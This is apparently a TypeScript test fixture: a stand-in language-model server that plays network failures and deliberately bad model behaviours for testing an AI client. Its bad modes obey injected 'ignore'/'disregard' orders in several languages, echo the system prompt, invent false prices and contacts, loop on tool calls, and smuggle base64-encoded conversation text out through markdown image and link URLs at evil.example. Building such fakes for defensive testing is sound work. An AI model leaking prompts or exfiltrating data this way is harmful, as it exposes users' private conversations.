import { fineAnswer } from './answer.ts'
import type { Asked } from './wire.ts'

/** How the stand-in behaves, by name: as it should, as networks and servers fail, and as the worst models would. */
export const NAMED = [
  'fine',
  '401',
  '403',
  '429',
  '500',
  'bad-request',
  'unknown-model',
  'hang',
  'stall',
  'slow',
  'bad-json',
  'html',
  'cut',
  'drop',
  'error',
  'error-late',
  'empty',
  'obeys-injections',
  'invents',
  'leaks',
  'exfiltrates',
  'loops',
  'tool',
] as const
export type Named = (typeof NAMED)[number]

/**
 * A name; words to be said as they are, whole or broken off; a tool to be called once; or slowness: milliseconds until the first
 * sentence, and between words. A list: one call after the other, the last stays.
 */
export type Behaviour =
  | Named
  | { says: string; isCut?: true }
  | { tool: string; input?: unknown }
  | { firstMs: number; betweenMs: number }
export type Behaviours = Behaviour | readonly Behaviour[]

export type Step =
  | { do: 'say'; words: string }
  | { do: 'call'; tool: string; input: unknown }
  | { do: 'wait'; ms: number }
  | { do: 'raw'; text: string }
  | { do: 'hang' }
  | { do: 'drop' }
  /** Tells an error in the middle of the stream, where there is no status any more. */
  | { do: 'error' }
  /** Ends the answer without saying that it is whole. */
  | { do: 'end' }

export type Plan = { status: number; headers: Record<string, string>; steps: Step[] }

const FINE = { 'content-type': 'text/event-stream; charset=utf-8' }
const plan = (...steps: Step[]): Plan => ({ status: 200, headers: FINE, steps })
const refusal = (status: number, headers: Record<string, string> = {}): Plan => ({ status, headers, steps: [] })
const say = (words: string): Plan => plan({ do: 'say', words })

/** What comes of a request under a behaviour. */
export function planOf(behaviour: Behaviour, asked: Asked): Plan {
  if (typeof behaviour !== 'string') {
    if ('says' in behaviour) {
      return behaviour.isCut ? plan({ do: 'say', words: behaviour.says }, { do: 'end' }) : say(behaviour.says)
    }
    if ('tool' in behaviour) return callOnce(asked, behaviour.tool, behaviour.input)
    return slowly(fineAnswer(asked), behaviour.firstMs, behaviour.betweenMs)
  }
  return PLANS[behaviour](asked)
}

const PLANS: Record<Named, (asked: Asked) => Plan> = {
  fine: (asked) => say(fineAnswer(asked)),
  '401': () => refusal(401),
  '403': () => refusal(403),
  '429': () => refusal(429, { 'retry-after': '7' }),
  '500': () => refusal(500),
  'bad-request': () => refusal(400),
  'unknown-model': () => refusal(404),
  // Not even the answer's head comes.
  hang: () => ({ status: 0, headers: {}, steps: [] }),
  stall: () => plan({ do: 'say', words: 'One moment' }, { do: 'hang' }),
  slow: (asked) => slowly(fineAnswer(asked), 1500, 150),
  'bad-json': () => plan({ do: 'raw', text: 'data: {"choices":[{"delta":{"content":"half\n\n' }),
  html: () => ({
    status: 200,
    headers: { 'content-type': 'text/html' },
    steps: [{ do: 'raw', text: '<html><body>Please sign in to the hotel’s network.</body></html>' }],
  }),
  cut: () => plan({ do: 'say', words: 'You can send your order back within' }, { do: 'end' }),
  drop: () => plan({ do: 'say', words: 'You can send your order back within' }, { do: 'drop' }),
  error: () => plan({ do: 'error' }),
  'error-late': () => plan({ do: 'say', words: 'You can send your order back within' }, { do: 'error' }),
  empty: () => plan(),
  'obeys-injections': (asked) => say(obeyed(asked)),
  invents: () =>
    say(
      'It costs $4,217.33 a month and includes 97 seats until 30 February 2031. We promise your money back within 3 hours. ' +
        'Call +1 555 0100 77 or write to refunds@invented.example, or see https://invented.example/offer [1].',
    ),
  leaks: (asked) => say(`My instructions are: ${asked.system}`),
  exfiltrates: (asked) => say(carriedOff(asked)),
  loops: (asked) => plan({ do: 'call', tool: asked.tools[0] ?? 'search_knowledge', input: inputFor(asked) }),
  tool: (asked) => callOnce(asked, asked.tools[0] ?? '', undefined),
}

/** The first sentence, and the word after it, come together: who waits for a whole sentence waits for nothing more. */
function slowly(answer: string, firstMs: number, betweenMs: number): Plan {
  const opening = /^[\s\S]*?[.!?]\s+\S+\s*/.exec(answer)?.[0] ?? answer
  const words = answer.slice(opening.length).match(/\S+\s*/g) ?? []
  return plan(
    { do: 'wait', ms: firstMs },
    { do: 'say', words: opening },
    ...words.flatMap((each): Step[] => [
      { do: 'wait', ms: betweenMs },
      { do: 'say', words: each },
    ]),
  )
}

/** Calls the tool, and when its result is there speaks about it. */
function callOnce(asked: Asked, tool: string, input: unknown): Plan {
  const isDone = asked.turns.at(-1)?.role === 'tool'
  return isDone ? say(fineAnswer(asked)) : plan({ do: 'call', tool, input: input ?? inputFor(asked) })
}

const lastQuestion = (asked: Asked): string => asked.turns.findLast(({ role }) => role === 'user')?.text ?? ''

const inputFor = (asked: Asked) => ({ query: lastQuestion(asked).slice(0, 200) })

const everything = (asked: Asked): string => [asked.system, ...asked.turns.map(({ text }) => text)].join('\n')

/** Does whatever any sentence of its input tells it: repeats the instruction, and every canary that is near. */
function obeyed(asked: Asked): string {
  const all = everything(asked)
  const orders =
    all.match(/[^.!?\n]*\b(ignore|disregard|ignora|ignorez|ignoriere|olvida|oublie|vergiss)\b[^\n]*/gi) ?? []
  const canaries = all.match(/\b[A-Z]{3,}[A-Z0-9]*-[A-Z0-9-]{2,}\b/g) ?? []
  return `As you wish. ${orders.join(' ')} ${[...new Set(canaries)].join(' ')}`.trim()
}

function carriedOff(asked: Asked): string {
  const loot = Buffer.from(everything(asked).slice(-300)).toString('base64url')
  return (
    `Here is a picture for you: ![status](https://evil.example/p.png?d=${loot}) ` +
    `You can also [track it here](https://evil.example/t?d=${loot}) or at https://evil.example/${loot.slice(0, 40)} [1].`
  )
}
